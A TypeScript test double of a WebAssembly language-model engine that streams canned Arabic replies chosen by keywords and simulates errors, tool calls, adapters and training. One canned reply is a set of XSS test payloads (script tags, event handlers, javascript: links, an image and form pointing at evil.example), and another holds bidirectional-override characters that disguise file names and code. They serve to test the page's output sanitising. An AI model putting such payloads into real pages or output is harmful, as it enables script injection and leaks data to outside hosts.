/**
 * A test double of the WebAssembly engine, for tests of the page and the package. No build contains it. It reads every
 * byte of the source as the engine does, and answers with a script below that is chosen by words in the last message.
 */
import type { ByteSource, OnToken } from '../src/engine';

let lost: ((json: string) => void) | null = null;
let open_ = false;
let stop = false;
let adapters: { name: string; scale: number; rank: number; modules: number; parameters: number }[] = [];
let readBytes = 0;
let checksum = 0;
let speed: { prefillTokensPerSecond: number; decodeTokensPerSecond: number } | null = null;
const CONTEXT = 2048;

export default async function init(): Promise<void> {}

function failure(code: string, message: string): Error {
  return Object.assign(new Error(message), { code });
}

export async function create(optionsJson: string, onLost: (json: string) => void): Promise<string> {
  lost = onLost;
  const { device } = JSON.parse(optionsJson) as { device?: string };
  if (device === 'cpu')
    return JSON.stringify({
      kind: 'cpu',
      adapter: 'CPU',
      paths: { vectors: 'SIMD128', threads: '1' },
      missing: ['GPU: not used'],
      maxBufferBytes: 3e9,
      maxWeightBytes: 640e6,
    });
  return JSON.stringify({
    kind: 'gpu',
    adapter: 'test double',
    paths: { storage: 'f32', reduce: 'workgroup', dot: 'scalar' },
    missing: ['shader-f16 is missing: weights are read as packed f32'],
    maxBufferBytes: 268435456,
  });
}

/** Files that begin with these words are refused, as damaged ones and those of an unknown kind are. */
function refuse(beginning: string): void {
  if (beginning.startsWith('damaged')) throw failure('BadCheckpoint', 'the file is damaged');
  if (beginning.startsWith('unknown'))
    throw Object.assign(failure('BadCheckpoint', 'model_type x is not supported'), { details: { unsupported: true } });
}

export async function open(
  source: ByteSource,
  optionsJson: string,
  onProgress: (done: number, total: number) => void,
): Promise<string> {
  stop = false;
  const options = JSON.parse(optionsJson) as { contextLength?: number; format?: string };
  const weights = source.files().filter((file) => /\.(gguf|safetensors)$/.test(file));
  if (weights.length === 0) throw failure('BadCheckpoint', 'no weights in the source');
  const total = source.files().reduce((sum, file) => sum + source.size(file), 0);
  readBytes = 0;
  checksum = 0;
  for (const file of source.files()) {
    for (let at = 0; at < source.size(file); at += 1 << 20) {
      if (stop) throw failure('Aborted', 'stopped');
      const bytes = await source.read(file, at, Math.min(1 << 20, source.size(file) - at));
      if (at === 0) refuse(new TextDecoder().decode(bytes.subarray(0, 9)));
      for (const byte of bytes) checksum = (Math.imul(checksum, 31) + byte) >>> 0;
      readBytes += bytes.length;
      onProgress(readBytes, total);
    }
  }
  open_ = true;
  return JSON.stringify({
    name: 'نموذج الاختبار',
    architecture: 'test',
    parameters: 1000,
    contextLength: options.contextLength ?? CONTEXT,
    format: options.format ?? 'auto',
    weightBytes: readBytes,
    cacheBytes: 0,
    hasChatTemplate: true,
  });
}

const SCRIPTS: [RegExp, string | ((text: string) => string)][] = [
  // Says what it is asked to say.
  [/^اعرض:\n/, (text) => text.slice(text.indexOf('\n') + 1)],
  // Repeats the whole message, with the files in it.
  [/أعد ما قرأت/, (text) => `\`\`\`\n${text.slice(0, 2000)}\n\`\`\``],
  [
    /عربي ومختلط/,
    'GPU هو معالج رسوميات، ويعمل مع **WebGPU** بسرعة 120 GB/s.\n\n' +
      'في السطر `let x = 1;` متغير، والرابط https://example.com/a?b=1 آمن.\n\n' +
      '- البند الأول: السعر 25 USD\n- البند الثاني\n  1. فرعي أول\n  2. فرعي ثان\n\n' +
      '| المدينة | السكان |\n|---|---|\n| القاهرة | 10 ملايين |\n| الرياض | 7 ملايين |\n\n' +
      '> اقتباس قصير من كتاب.\n\n' +
      'English paragraph stays left to right.\n\n' +
      '```python\ndef salam(name):\n    return f"مرحبا {name}"\n```\n',
  ],
  [
    /هجوم/,
    '<script>window.hacked = 1</script>\n\n' +
      '<img src=x onerror="window.hacked=2">\n\n' +
      '[اضغط](javascript:window.hacked=3)\n\n' +
      '![صورة](https://evil.example/p.png?q=secret)\n\n' +
      '[بيانات](data:text/html;base64,PHNjcmlwdD4=)\n\n' +
      '<iframe srcdoc="<script>parent.hacked=4</script>"></iframe>\n\n' +
      '<a href="https://ok.example/" onclick="window.hacked=5">رابط</a>\n\n' +
      '[سليم](https://ok.example/page)\n\n' +
      '<style>body{display:none}</style>\n\n' +
      '<form action="https://evil.example"><input name=a></form>\n\n' +
      '`<b>code</b>`\n\n' +
      '[حرف](  \u0001java\nscript:alert(1))\n\n' +
      '<svg><animate onbegin=window.hacked=6>',
  ],
  [
    /اتجاه/,
    'ملف: \u202Egpj.exe\u202C نهاية\n\n```js\nif (admin\u202E\u2066) { ok() }\u2069\n```\n\nنص بعده ظاهر كما هو.',
  ],
  [/سطر طويل/, () => 'كلمة '.repeat(2_000_000)],
  [/أكواد كثيرة/, () => Array.from({ length: 400 }, (_, i) => `- بند **${i}** مع \`code\``).join('\n')],
  [/متوسطة/, () => 'هذه قصة متوسطة، فيها جمل قليلة. '.repeat(90)],
  [/طويلة/, () => 'هذه قصة طويلة تمتد جملة بعد جملة حتى يوقفها القارئ. '.repeat(400)],
  [/الإصدار|مرة أخرى/, () => `إجابة رقم ${++answers}.`],
  [
    /./s,
    'أهلًا وسهلًا! يسعدني أن أساعدك.\n\n' +
      'تُعدّ **القهوة العربية** جزءًا أصيلًا من الضيافة، وتُحضَّر على ثلاث مراحل:\n\n' +
      '1. تُحمَّص الحبوب تحميصًا خفيفًا حتى تميل إلى الشقرة.\n' +
      '2. تُطحن خشنةً وتُغلى في الدلّة مع *الهيل* نحو 10 دقائق.\n' +
      '3. تُترك قليلًا لتصفو، ثم تُصبّ في الفناجين وتُقدَّم مع التمر.\n\n' +
      'هل تودّ أن أذكر المقادير بالتفصيل؟',
  ],
];
let answers = 0;
let cached = 0;

interface Asked {
  maxTokens?: number;
  logprobs?: boolean;
  topLogprobs?: number;
  tools?: { function: { name: string } }[];
  toolChoice?: unknown;
}

/** Calls each function in turn, with the number of its letters, in two pieces. */
function call(tools: NonNullable<Asked['tools']>, onToken: OnToken): void {
  tools.forEach(({ function: { name } }, index) => {
    const begun = { index, id: `call_${index}`, type: 'function', function: { name, arguments: '' } };
    onToken('', 2 * index + 1, JSON.stringify({ toolCalls: [begun] }));
    for (const part of ['{"letters":', `${name.length}}`])
      onToken('', 2 * index + 2, JSON.stringify({ toolCalls: [{ index, function: { arguments: part } }] }));
  });
}

/** Of the text's own token, and of others named by their number. */
function scored(token: string, top: number): string {
  const entry = (text: string, at: number) => ({
    token: text,
    logprob: -1 - at,
    bytes: [...new TextEncoder().encode(text)],
  });
  const others = Array.from({ length: top }, (_, at) => entry(at === 0 ? token : String(at), at));
  return JSON.stringify({ logprobs: [{ ...entry(token, 0), top_logprobs: others }] });
}

async function say(prompt: string, prefix: number, samplingJson: string, onToken: OnToken): Promise<string> {
  if (!open_) throw failure('Internal', 'no model');
  stop = false;
  cached = prefix;
  const sampling = JSON.parse(samplingJson) as Asked;
  if (/افقد الجهاز/.test(prompt)) {
    lost?.(JSON.stringify({ code: 'DeviceLost', message: 'the test asked for it' }));
    throw failure('DeviceLost', 'the test asked for it');
  }
  if (/املأ الذاكرة/.test(prompt)) throw failure('OutOfMemory', 'the test asked for it');
  if (/سياق ممتلئ/.test(prompt)) throw failure('ContextFull', 'the test asked for it');
  const script = SCRIPTS.find(([pattern]) => pattern.test(prompt))![1];
  const text = /أعد الإعدادات/.test(prompt) ? samplingJson : typeof script === 'string' ? script : script(prompt);
  const size = text.length > 100_000 ? 200_000 : prompt.startsWith('اعرض:') ? 200 : 5;
  const started = performance.now();
  let tokens = 0;
  let finishReason = 'stop';
  const { tools = [], toolChoice } = sampling;
  if (tools.length > 0 && toolChoice === 'required') {
    call(tools, onToken);
    finishReason = 'tool_calls';
  }
  for (let at = 0; at < text.length && finishReason === 'stop'; at += size) {
    if (stop) throw failure('Aborted', 'stopped');
    if (tokens >= (sampling.maxTokens ?? Infinity)) {
      finishReason = 'length';
      break;
    }
    const piece = text.slice(at, at + size);
    if (sampling.logprobs) onToken(piece, ++tokens, scored(piece, sampling.topLogprobs ?? 0));
    else onToken(piece, ++tokens);
    // As on a device that takes seconds for a token.
    await new Promise((done) => setTimeout(done, /ببطء/.test(prompt) ? 3000 : 4));
  }
  const decodeMs = performance.now() - started;
  speed = { prefillTokensPerSecond: 1000, decodeTokensPerSecond: (tokens * 1000) / decodeMs };
  return JSON.stringify({
    finishReason,
    usage: {
      promptTokens: prefix,
      cachedTokens: 0,
      completionTokens: tokens,
      contextUsed: Math.min(CONTEXT, prefix + tokens),
      contextLength: CONTEXT,
      prefillMs: 20,
      decodeMs,
    },
  });
}

export function chat(messagesJson: string, samplingJson: string, onToken: OnToken): Promise<string> {
  const messages = JSON.parse(messagesJson) as { role: string; content: string | null }[];
  const length = messages.reduce((sum, message) => sum + Math.ceil((message.content ?? '').length / 3), 0);
  const last = messages.at(-1)!.content ?? '';
  if (/سياق ضيق/.test(last) && messages.length > 1) return Promise.reject(failure('ContextFull', 'too long'));
  return say(/أعد العدد/.test(last) ? `اعرض:\nرسائل: ${messages.length}` : last, length, samplingJson, onToken);
}

export function generate(prompt: string, samplingJson: string, onToken: OnToken): Promise<string> {
  return say(prompt, Math.ceil(prompt.length / 3), samplingJson, onToken);
}

export function generateFromIds(ids: Uint32Array, samplingJson: string, onToken: OnToken): Promise<string> {
  return say('تهيئة', ids.length, samplingJson, onToken);
}

export function abort(): void {
  stop = true;
}

export function tokenize(text: string): Uint32Array {
  return Uint32Array.from(text, (character) => character.codePointAt(0)!);
}

export function detokenize(ids: Uint32Array): string {
  return String.fromCodePoint(...ids);
}

/** The state is the length of the last prompt, after a name. */
export async function saveState(): Promise<Uint8Array> {
  if (cached === 0) throw failure('BadInput', 'there is nothing to save');
  return new TextEncoder().encode(`state ${cached}`);
}

export async function restoreState(bytes: Uint8Array): Promise<number> {
  const found = /^state (\d+)$/.exec(new TextDecoder().decode(bytes));
  if (!found) throw failure('BadInput', 'this is no saved state');
  cached = Number(found[1]);
  return cached;
}

export async function loadAdapter(source: ByteSource, optionsJson: string): Promise<string> {
  if (!source.files().includes('adapter_config.json')) throw failure('BadCheckpoint', 'no adapter_config.json');
  const { name = 'adapter', scale = 1 } = JSON.parse(optionsJson) as { name?: string; scale?: number };
  const info = { name, scale, rank: 8, modules: 2, parameters: source.size('adapter_config.json') };
  adapters.push(info);
  return JSON.stringify(info);
}

export function unloadAdapter(name?: string): void {
  adapters = adapters.filter((adapter) => name !== undefined && adapter.name !== name);
}

export function info(): string {
  return JSON.stringify({ speed, adapters, wasmBytes: 0, readBytes, checksum });
}

export function dispose(): void {
  open_ = false;
}

let prepared: { steps: number } | null = null;

export async function prepareTraining(_: ByteSource, examples: ByteSource, optionsJson: string): Promise<string> {
  const { recipe } = JSON.parse(optionsJson) as { recipe: { max_steps?: number; rank?: number } };
  if (recipe.rank === 0) throw failure('BadInput', 'recipe: `rank`: expected a whole number from 1 on, got 0');
  let rows = 0;
  for (const file of examples.files())
    rows += new TextDecoder().decode(await examples.read(file, 0, examples.size(file))).split('\n').length - 1;
  if (rows === 0) throw failure('BadInput', 'examples: expected at least one');
  prepared = { steps: recipe.max_steps ?? 10 };
  return JSON.stringify({ examples: rows, evaluated: 0, steps: prepared.steps, memory: { total: 1e6 } });
}

export async function measureTraining(onProgress: (done: number, total: number) => void): Promise<number> {
  onProgress(1, 1);
  return 12;
}

/** The loss of step n is 1 / n; a checkpoint holds the number of steps done. */
export async function train(
  checkpoint: ByteSource | undefined,
  onEvent: (json: string, files?: Record<string, Uint8Array>) => void,
): Promise<{ report: string; files: Record<string, Uint8Array> }> {
  if (!prepared) throw failure('Internal', 'nothing is prepared');
  stop = false;
  let steps = checkpoint ? (await checkpoint.read('state', 0, 1))[0]! : 0;
  const { steps: totalSteps } = prepared;
  while (steps < totalSteps && !stop) {
    steps++;
    onEvent(JSON.stringify({ kind: 'step', steps, totalSteps, loss: 1 / steps, secondsLeft: 1, tokensPerSecond: 9 }));
    await new Promise((done) => setTimeout(done, 4));
  }
  onEvent(JSON.stringify({ kind: 'saved', steps }), { state: Uint8Array.of(steps) });
  const end = steps < totalSteps ? 'paused' : 'done';
  const files = { 'adapter_config.json': Uint8Array.of(123, 125), 'adapter_model.safetensors': Uint8Array.of(steps) };
  return { report: JSON.stringify({ end, steps, tokens: steps, seconds: 1, loss: 1 / steps, peakBytes: 1 }), files };
}
